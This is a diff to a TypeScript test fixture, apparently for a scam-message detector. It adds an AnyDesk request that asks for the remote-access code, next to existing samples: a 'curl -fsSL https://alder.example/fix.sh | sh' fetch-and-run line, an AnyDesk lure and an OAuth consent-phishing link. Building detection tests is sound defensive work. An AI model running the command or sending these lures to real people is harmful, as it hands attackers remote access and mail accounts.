@@ -119,6 +119,10 @@ const SAMPLES: Readonly<Record<string, readonly [noticed: Sample, silent: Sample
     'Open a terminal and run: curl -fsSL https://alder.example/fix.sh | sh',
     'The log ends after: curl -fsSL https://alder.example/fix.sh | sh',
   ],
+  'remote-access-request': [
+    'Please install AnyDesk, open it and send me the 9-digit code that it shows.',
+    'Please install AnyDesk before our call. Never send anyone the 9-digit code that it shows.',
+  ],
   'remote-access-program': ['Please install AnyDesk and call us.', 'Please install the update and call us.'],
   'consent-to-stranger': [
     `Open the document: ${consent('https://viewer.example/cb', 'Mail.ReadWrite+offline_access')}`,
